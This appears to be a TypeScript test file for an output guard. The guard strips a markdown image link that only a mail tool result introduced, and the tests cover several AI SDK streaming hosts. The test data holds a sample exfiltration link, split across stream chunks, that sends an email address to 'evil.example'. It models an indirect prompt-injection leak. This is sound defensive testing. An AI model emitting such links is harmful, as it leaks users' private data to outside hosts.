import Anthropic from '@anthropic-ai/sdk';
import { Agent, type Model, Runner, Usage } from '@openai/agents';
import { streamText, wrapLanguageModel } from 'ai';
import { convertArrayToReadableStream, MockLanguageModelV4 } from 'ai/test';
import OpenAI from 'openai';
import { describe, expect, it } from 'vitest';
import { guardModel } from '../../src/integrations/ai-sdk/index.js';
import { guardMiddleware } from '../../src/integrations/anthropic/index.js';
import { guardFetch } from '../../src/integrations/openai/index.js';
import { guardAgents } from '../../src/integrations/openai-agents/index.js';
import { createGuard, type Guard } from '../../src/policy/index.js';
import { counting } from './adapters/matrix.js';
import { mastraAgent } from './mastra-agent.js';
import { HONEST, history, items, LEAK, MAIL, SAID, toolCalls, usage } from './read-mail.js';

// A model's answer in a stream, after it read a mail: each host shows no way out that only the mail opened.

function tokensOf(text: string): readonly string[] {
  return text.match(/[\s\S]{1,5}/g) ?? [];
}

function events(all: readonly { readonly type?: string }[], end = ''): Response {
  const lines = all.map((data) => `${data.type ? `event: ${data.type}\n` : ''}data: ${JSON.stringify(data)}\n\n`);
  return new Response(lines.join('') + end, { headers: { 'content-type': 'text/event-stream' } });
}

/** The stream of a model of the AI SDK. */
function streamOf(says: string): () => Promise<object> {
  const parts = [
    { type: 'stream-start', warnings: [] },
    { type: 'text-start', id: '1' },
    ...tokensOf(says).map((delta) => ({ type: 'text-delta', id: '1', delta })),
    { type: 'text-end', id: '1' },
    { type: 'finish', finishReason: { unified: 'stop', raw: undefined }, usage },
  ];
  return async () => ({ stream: convertArrayToReadableStream(parts) });
}

/** Shows what its client reads from the guard. */
function openAi(guard: Guard, reply: () => Response): OpenAI {
  const fetch = guardFetch(guard, async () => reply());
  return new OpenAI({ apiKey: 'x', baseURL: 'http://openai.test/v1', fetch });
}

const hosts: Readonly<Record<string, (guard: Guard, says: string) => Promise<{ text: string; raw: string }>>> = {
  async 'AI SDK'(guard, says) {
    const model = new MockLanguageModelV4({ doStream: streamOf(says) as never });
    const { fullStream } = streamText({
      model: wrapLanguageModel({ model, middleware: guardModel(guard) }),
      messages: history,
    });
    let text = '';
    const seen: unknown[] = [];
    for await (const part of fullStream) {
      seen.push(part);
      if (part.type === 'text-delta') text += part.text;
    }
    return { text, raw: JSON.stringify(seen) };
  },
  async 'OpenAI, chat'(guard, says) {
    const chunk = (delta: object, finish_reason: string | null = null): object => ({
      ...{ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm' },
      choices: [{ index: 0, delta, finish_reason }],
    });
    const all = [
      chunk({ role: 'assistant', content: '' }),
      ...tokensOf(says).map((content) => chunk({ content })),
      chunk({}, 'stop'),
    ];
    const stream = await openAi(guard, () => events(all, 'data: [DONE]\n\n')).chat.completions.create({
      ...{ model: 'm', stream: true },
      messages: [
        { role: 'user', content: SAID },
        { role: 'assistant', content: null, tool_calls: toolCalls },
        { role: 'tool', tool_call_id: 't', content: MAIL },
      ],
    });
    let text = '';
    const seen: unknown[] = [];
    for await (const part of stream) {
      seen.push(part);
      text += part.choices[0]?.delta.content ?? '';
    }
    return { text, raw: JSON.stringify(seen) };
  },
  async 'OpenAI, responses'(guard, says) {
    const part = { type: 'output_text', text: says, annotations: [] };
    const item = { id: 'i', type: 'message', role: 'assistant', status: 'completed', content: [part] };
    const place = { item_id: 'i', output_index: 0, content_index: 0 };
    const all = [
      { type: 'response.created', response: { id: 'r', output: [] } },
      { type: 'response.output_item.added', output_index: 0, item: { ...item, content: [] } },
      { type: 'response.content_part.added', ...place, part: { ...part, text: '' } },
      ...tokensOf(says).map((delta) => ({ type: 'response.output_text.delta', ...place, delta })),
      { type: 'response.output_text.done', ...place, text: says },
      { type: 'response.content_part.done', ...place, part },
      { type: 'response.output_item.done', output_index: 0, item },
      { type: 'response.completed', response: { id: 'r', output: [item] } },
    ].map((event, at) => ({ ...event, sequence_number: at }));
    const stream = openAi(guard, () => events(all)).responses.stream({
      model: 'm',
      input: [
        { role: 'user', content: SAID },
        { type: 'function_call', call_id: 't', name: 'mail', arguments: '{}' },
        { type: 'function_call_output', call_id: 't', output: MAIL },
      ],
    });
    let text = '';
    const seen: { sequence_number?: number }[] = [];
    for await (const event of stream) {
      seen.push(event);
      if (event.type === 'response.output_text.delta') text += event.delta;
    }
    expect(seen.map((event) => event.sequence_number)).toEqual(seen.map((_, at) => at));
    expect((await stream.finalResponse()).output_text).toBe(text);
    return { text, raw: JSON.stringify(seen) };
  },
  async Anthropic(guard, says) {
    const message = { id: 'a', type: 'message', role: 'assistant', model: 'm', content: [], stop_reason: null };
    const all = [
      { type: 'message_start', message: { ...message, usage: { input_tokens: 1, output_tokens: 1 } } },
      { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } },
      { type: 'ping' },
      ...tokensOf(says).map((text) => ({ type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text } })),
      { type: 'content_block_stop', index: 0 },
      { type: 'message_delta', delta: { stop_reason: 'end_turn' }, usage: { output_tokens: 1 } },
      { type: 'message_stop' },
    ];
    const client = new Anthropic({
      ...{ apiKey: 'x', baseURL: 'http://anthropic.test', fetch: async () => events(all) },
      middleware: [guardMiddleware(guard)],
    });
    const stream = client.messages.stream({
      ...{ model: 'm', max_tokens: 10 },
      messages: [
        { role: 'user', content: SAID },
        { role: 'assistant', content: [{ type: 'tool_use', id: 't', name: 'mail', input: {} }] },
        { role: 'user', content: [{ type: 'tool_result', tool_use_id: 't', content: MAIL }] },
      ],
    });
    const seen: unknown[] = [];
    for await (const event of stream) seen.push(event);
    return { text: await stream.finalText(), raw: JSON.stringify(seen) };
  },
  async Mastra(guard, says) {
    const agent = mastraAgent(guard, { doStream: streamOf(says) });
    const stream = await agent.stream(history as never);
    let text = '';
    const seen: unknown[] = [];
    for await (const part of stream.fullStream) {
      seen.push(part);
      if (part.type === 'text-delta') text += part.payload.text;
    }
    expect(await stream.text).toBe(text);
    return { text, raw: JSON.stringify([seen, await stream.response]) };
  },
  async 'OpenAI Agents'(guard, says) {
    const content = [{ type: 'output_text' as const, text: says }];
    const output = [{ type: 'message' as const, role: 'assistant' as const, status: 'completed' as const, content }];
    const usage = { inputTokens: 0, outputTokens: 0, totalTokens: 0 };
    const model: Model = {
      getResponse: async () => ({ usage: new Usage(), output }),
      async *getStreamedResponse() {
        yield { type: 'response_started' };
        for (const delta of tokensOf(says)) {
          yield { type: 'output_text_delta', delta, itemId: 'i', providerData: { logprobs: [{ token: delta }] } };
          yield { type: 'model', event: { type: 'response.output_text.delta', delta } };
        }
        yield { type: 'model', event: { type: 'response.output_item.done', item: output[0] } };
        yield { type: 'model', event: { type: 'response.output_item.done', item: { type: 'reasoning' } } };
        yield { type: 'response_done', response: { id: 'r', usage, output } };
      },
    };
    const { callModelInputFilter, model: guarded } = guardAgents(guard);
    const agent = new Agent({ name: 'a', model: guarded(model) });
    const stream = await new Runner({ callModelInputFilter, tracingDisabled: true }).run(agent, items, {
      stream: true,
    });
    let text = '';
    const seen: unknown[] = [];
    for await (const event of stream) {
      seen.push(event.type === 'raw_model_stream_event' ? event.data : event);
      if (event.type === 'raw_model_stream_event' && event.data.type === 'output_text_delta') text += event.data.delta;
    }
    expect(stream.finalOutput).toBe(text);
    expect(JSON.stringify(seen)).toContain('"reasoning"');
    return { text, raw: JSON.stringify([seen, stream.history]) };
  },
};

describe.each(Object.entries(hosts))('%s', (_, answer) => {
  it('cuts the target of an image that only a tool result named', async () => {
    const { text, raw } = await answer(createGuard({ engine: counting() }), LEAK);
    expect(text.replace(/\[removed by portcullis: [^\]]*\]/, '[…]')).toBe(`${HONEST}![c]([…]) Done.`);
    expect(raw).not.toContain('d=anna');
  });

  it('shows an honest answer as it is', async () => {
    expect((await answer(createGuard({ engine: counting() }), HONEST)).text).toBe(HONEST);
  });

  it('ends with the note for `deny`, and shows everything for `off`', async () => {
    const denying = createGuard({ engine: counting(), on: { output: 'deny' } });
    expect((await answer(denying, LEAK)).text).toMatch(/\[removed by portcullis: [^\]]*\]$/);
    expect((await answer(createGuard({ engine: counting(), on: { output: 'off' } }), LEAK)).text).toBe(LEAK);
  });
});

describe('a comment between the pieces of a link', () => {
  const PING = ': ping\n\n';
  const pieces = [`${HONEST}![c](https://evil`, '.example/p?d=anna@acme.example) Done.'];

  async function shown(path: string, body: object, lines: readonly string[]): Promise<string> {
    const reply = new Response(lines.join(''), { headers: { 'content-type': 'text/event-stream' } });
    const fetch = guardFetch(createGuard({ engine: counting() }), async () => reply);
    const sent = { method: 'POST', body: JSON.stringify({ model: 'm', stream: true, ...body }) };
    return (await fetch(`http://openai.test/v1/${path}`, sent)).text();
  }

  it('ends no text of Chat Completions', async () => {
    const messages = [
      { role: 'user', content: SAID },
      { role: 'assistant', content: null, tool_calls: toolCalls },
      { role: 'tool', tool_call_id: 't', content: MAIL },
    ];
    const [first, second] = pieces.map(
      (content) => `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`,
    );
    const text = await shown('chat/completions', { messages }, [`${first}`, PING, `${second}`, 'data: [DONE]\n\n']);
    expect(text).toContain('removed by portcullis');
    expect(text).toMatch(/Done\..*data: \[DONE\]\n\n$/s);
    expect(text).not.toContain('evil');
    expect(text).toContain(':\n\n');
  });

  it('is cut from a whole message, with which some servers end', async () => {
    const messages = [
      { role: 'user', content: SAID },
      { role: 'assistant', content: null, tool_calls: toolCalls },
      { role: 'tool', tool_call_id: 't', content: MAIL },
    ];
    const choices = [{ index: 0, delta: {}, message: { role: 'assistant', content: pieces.join('') } }];
    const text = await shown('chat/completions', { messages }, [`data: ${JSON.stringify({ choices })}\n\n`]);
    expect(text).toContain('removed by portcullis');
    expect(text).not.toContain('evil');
  });

  it('ends no text of Responses; one that never came in pieces is shown as in one piece', async () => {
    const input = [
      { role: 'user', content: SAID },
      { type: 'function_call', call_id: 't', name: 'mail', arguments: '{}' },
      { type: 'function_call_output', call_id: 't', output: MAIL },
    ];
    const place = { item_id: 'i', output_index: 0, content_index: 0 };
    const line = (data: object): string => `data: ${JSON.stringify({ ...place, ...data })}\n\n`;
    const [first, second] = pieces.map((delta) => line({ type: 'response.output_text.delta', delta }));
    const done = line({ type: 'response.output_text.done', text: pieces.join('') });
    for (const lines of [[`${first}`, PING, `${second}`, done], [done]]) {
      const text = await shown('responses', { input }, lines);
      expect(text).not.toContain('evil');
      expect(text.match(/removed by portcullis/g)).toHaveLength(lines.length > 1 ? 2 : 1);
    }
  });
});
